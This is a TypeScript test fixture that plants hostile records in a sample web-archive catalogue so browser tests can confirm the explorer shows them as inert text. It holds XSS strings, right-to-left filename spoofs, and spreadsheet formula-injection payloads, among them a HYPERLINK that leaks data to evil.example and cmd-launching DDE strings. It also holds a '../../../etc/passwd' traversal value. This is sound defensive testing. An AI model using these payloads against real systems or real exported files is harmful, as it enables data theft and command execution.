/**
 * Records with hostile content, added to a sample catalogue so tests (and `--faults hostile`) can
 * show that the explorer renders everything from the service as inert text: markup and script,
 * `javascript:` and `data:` addresses, right-to-left overrides, emoji, a 100 KB description, a
 * seed with 10,000 metadata values, values a spreadsheet would run as formulas, and credentials
 * that must never be shown. Every payload that would run sets `window.__pwned`, the canary the
 * browser tests watch.
 */
import type {
  Metadata,
  Timestamp,
  WirePressItem,
  WireSeedDefault,
  WireSeedGroupRef,
} from '../../contract/wire';
import type { Catalogue, CollectionRecord } from './generate';

export const SCRIPT = '<script>window.__pwned = 1</script>';
export const IMG_ONERROR = '<img src="x" onerror="window.__pwned = 1">';
export const JAVASCRIPT_URL = 'javascript:window.__pwned = 1';
export const DATA_URL = 'data:text/html,<script>window.__pwned = 1</script>';
/** Arabic and Hebrew. */
export const RTL_TEXT = 'أرشيف الويب للانتخابات — ארכיון האינטרנט';
/** U+202E RIGHT-TO-LEFT OVERRIDE: reverses whatever follows it in the same paragraph. */
export const RLO = '\u202E';
export const EMOJI = '🏛️ 👩🏽‍💻 🏳️‍🌈 🇺🇦 🧪';
/** Credentials the hostile records carry; none may reach the screen or storage. */
export const HOSTILE_SECRETS = {
  loginUsername: 'hostile-login@example.org',
  loginPassword: 'hostile-password-Zq8!',
  accessToken: 'pat_hostileAccessToken0123456789',
} as const;
/**
 * Values a spreadsheet would run as formulas (CSV injection): each starts with one of `=`, `+`,
 * `-`, `@`, a tab or a carriage return.
 */
export const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
] as const;
/**
 * Formulas behind characters a spreadsheet skips or reads as the sign itself: a NUL (LibreOffice
 * drops it and evaluates the rest), a byte-order mark, a zero-width space, spaces, a next line, and
 * the full-width signs.
 */
export const HIDDEN_FORMULAS = [
  '\u0000=1+1',
  '\u0000=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
  '\uFEFF=1+1',
  '\u200B+1+1',
  ' \u00A0@SUM(1+1)',
  '\u0085-1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
] as const;
/**
 * An address with every character some reader takes for a line break inside it: next line, the
 * vertical tab, form feed, the file, group and record separators, and the line separator.
 */
export const MANY_LINES_URL =
  'https://example.org/one\u0085two\u000Bthree\u000Cfour\u001Cfive\u001Dsix\u001Eseven\u2028eight';
export const MANY_VALUES = 10_000;
export const LONG_TEXT_LENGTH = 100 * 1024;

/** About 100 KB of description: markup, line breaks, and one very long unbroken token. */
export function longDescription(): string {
  const paragraph =
    `${IMG_ONERROR} A description that goes on and on, with <b>markup</b> & “quotes”,\r\n` +
    `${SCRIPT} right-to-left text ${RTL_TEXT} and emoji ${EMOJI}.\n\n`;
  const token = `https://example.org/${'a'.repeat(2_000)}`;
  let text = `${token}\n`;
  while (text.length < LONG_TEXT_LENGTH) text += paragraph;
  return text.slice(0, LONG_TEXT_LENGTH);
}

const CREATED: Timestamp = '2024-02-29T23:59:59.999999Z';
const UPDATED: Timestamp = '2025-01-01T00:00:00Z';

export interface HostileIds {
  collection: number;
  seedGroup: number;
  /** Seeds by what makes them hostile. */
  seeds: {
    javascriptUrl: number;
    dataUrl: number;
    markupInUrl: number;
    rightToLeft: number;
    emoji: number;
    manyValues: number;
    withLogin: number;
    /** Formulas a spreadsheet could run, in its title, type, notes and a field's name. */
    formulas: number;
  };
  pressItems: { javascriptLink: number; dataLink: number; markupLink: number };
}

/**
 * Adds the hostile records to `catalogue` (which it changes) at the front of each list, so they
 * arrive in the first page, and returns their ids.
 */
export function addHostileRecords(catalogue: Catalogue): HostileIds {
  const next = (ids: number[]) => ids.reduce((a, b) => Math.max(a, b), 0) + 1;
  const collectionId = next(catalogue.collections.map((c) => c.id)) + 1_000;
  const seedGroupId = next(catalogue.seedGroups.map((g) => g.id)) + 1_000;
  let seedId = next(catalogue.seeds.map((s) => s.id)) + 1_000;
  let entryId = 90_000_000;
  let pressId = next(catalogue.pressItems.map((p) => p.id)) + 100;

  const values = (...texts: string[]) => texts.map((value) => ({ id: entryId++, value }));
  const long = longDescription();
  const manySubjects = Array.from({ length: MANY_VALUES }, (_, i) =>
    i % 100 === 0 ? `${IMG_ONERROR} Subject ${String(i + 1)}` : `Subject ${String(i + 1)}`,
  );

  const seeds = {
    javascriptUrl: seedId++,
    dataUrl: seedId++,
    markupInUrl: seedId++,
    rightToLeft: seedId++,
    emoji: seedId++,
    manyValues: seedId++,
    withLogin: seedId++,
    formulas: seedId++,
  };
  const seed = (
    id: number,
    url: string,
    metadata: Metadata,
    extra: Partial<WireSeedDefault> = {},
  ): WireSeedDefault => ({
    id,
    collection: collectionId,
    url,
    canonical_url: url,
    crawl_definition: 31_000_001,
    seed_type: 'normal',
    active: true,
    deleted: false,
    publicly_visible: true,
    valid: null,
    http_response_code: null,
    last_checked_http_response_code: null,
    metadata,
    created_by: 'hostile_tester',
    created_date: CREATED,
    last_updated_by: 'hostile_tester',
    last_updated_date: UPDATED,
    seed_group: null,
    login_username: null,
    login_password: null,
    ...extra,
  });

  const hostileSeeds: WireSeedDefault[] = [
    seed(
      seeds.javascriptUrl,
      JAVASCRIPT_URL,
      { Title: values(IMG_ONERROR), Source: values(JAVASCRIPT_URL) },
      { seed_type: SCRIPT, created_by: SCRIPT, seed_group: seedGroupId },
    ),
    seed(
      seeds.dataUrl,
      DATA_URL,
      { Title: values('A data: address'), Source: values(DATA_URL), Notes: values(...FORMULAS) },
      { created_by: FORMULAS[0] },
    ),
    seed(
      seeds.markupInUrl,
      `https://example.org/search?q="><script>window.__pwned = 1</script>`,
      { Title: values(`${SCRIPT} in the address`) },
      { canonical_url: 'https://example.org/"><img src=x onerror="window.__pwned = 1">' },
    ),
    seed(seeds.rightToLeft, `https://example.org/${RLO}gpj.exe`, {
      Title: values(RTL_TEXT),
      Description: values(`${RLO}This text is written backwards by an override.`),
      [`Field ${RLO}reversed`]: values('one', 'two', 'three'),
    }),
    seed(seeds.emoji, 'https://👍.example/🧪/', {
      Title: values(EMOJI),
      Subject: values('🏳️‍🌈', '👩🏽‍💻'),
    }),
    seed(seeds.manyValues, 'https://example.org/many-values/', {
      Title: values(`${MANY_VALUES.toLocaleString('en-US')} subjects`),
      Description: values(long),
      Subject: values(...manySubjects),
    }),
    seed(
      seeds.withLogin,
      'https://example.org/members-only/',
      { Title: values('A seed with a login') },
      {
        login_username: HOSTILE_SECRETS.loginUsername,
        login_password: HOSTILE_SECRETS.loginPassword,
        active: false,
      },
    ),
    seed(
      seeds.formulas,
      MANY_LINES_URL,
      {
        Title: values(HIDDEN_FORMULAS[1]),
        Notes: values(...HIDDEN_FORMULAS),
        [HIDDEN_FORMULAS[0]]: values(...HIDDEN_FORMULAS.slice(2)),
      },
      { seed_type: HIDDEN_FORMULAS[0], created_by: HIDDEN_FORMULAS[2] },
    ),
  ];

  const collection: CollectionRecord = {
    id: collectionId,
    account: 488,
    name: `${SCRIPT} Hostile collection ${IMG_ONERROR} ${EMOJI}`,
    state: 'ACTIVE',
    deleted: false,
    publicly_visible: false,
    oai_exported: false,
    image: null,
    topics: `${IMG_ONERROR};government;`,
    num_active_seeds: hostileSeeds.filter((s) => s.active).length,
    num_inactive_seeds: hostileSeeds.filter((s) => !s.active).length,
    total_warc_bytes: Number.MAX_SAFE_INTEGER,
    last_crawl_date: UPDATED,
    metadata: {
      Title: values(JAVASCRIPT_URL),
      Description: values(long),
      Subject: values(RTL_TEXT, `${RLO}evil.exe`, EMOJI),
      Creator: values(SCRIPT),
      Collector: values(IMG_ONERROR),
      Source: values(DATA_URL),
      '<b onmouseover="window.__pwned = 1">Bold field name</b>': values(IMG_ONERROR),
      hasOwnProperty: values('a field named like a built-in'),
      toString: values('another one'),
    },
    created_by: SCRIPT,
    created_date: CREATED,
    last_updated_by: IMG_ONERROR,
    last_updated_date: UPDATED,
    private_access_token: HOSTILE_SECRETS.accessToken,
  };

  const press = (id: number, item: Partial<WirePressItem>): WirePressItem => ({
    id,
    title: 'Hostile press item',
    description: '',
    image: null,
    image_blob: 1,
    featured_link: 'https://example.org/',
    press_footer: 'Nobody, Nowhere, January 1, 2024',
    list_order: 0,
    created_by: null,
    created_date: null,
    last_updated_by: 'outreach_team',
    last_updated_date: UPDATED,
    ...item,
  });
  const pressItems = {
    javascriptLink: pressId++,
    dataLink: pressId++,
    markupLink: pressId++,
  };

  catalogue.collections.unshift(collection);
  catalogue.seeds.unshift(...hostileSeeds);
  catalogue.seedGroups.unshift({
    id: seedGroupId,
    name: `${SCRIPT} Needs review ${RTL_TEXT}`,
    collection: collectionId,
  });
  (catalogue.seedGroupRefs as Map<number, WireSeedGroupRef>).set(seedGroupId, {
    id: seedGroupId,
    name: `${SCRIPT} Needs review ${RTL_TEXT}`,
    account: 488,
    collections: [collectionId],
    visibility: 'private',
  });
  catalogue.pressItems.unshift(
    press(pressItems.javascriptLink, {
      title: `${IMG_ONERROR} A press item with a javascript: link`,
      description: long,
      featured_link: JAVASCRIPT_URL,
      image: 'x" onerror="window.__pwned = 1',
      press_footer: `${SCRIPT}, ${RTL_TEXT}, January 1, 2024`,
    }),
    press(pressItems.dataLink, {
      title: `${RTL_TEXT} ${EMOJI}`,
      description: `${RLO}Backwards by an override.\r\n${EMOJI}`,
      featured_link: DATA_URL,
      image: '../../../etc/passwd',
    }),
    press(pressItems.markupLink, {
      title: 'A link with markup in it',
      description: SCRIPT,
      featured_link: 'https://example.org/"><img src=x onerror="window.__pwned = 1">',
    }),
  );

  return { collection: collectionId, seedGroup: seedGroupId, seeds, pressItems };
}
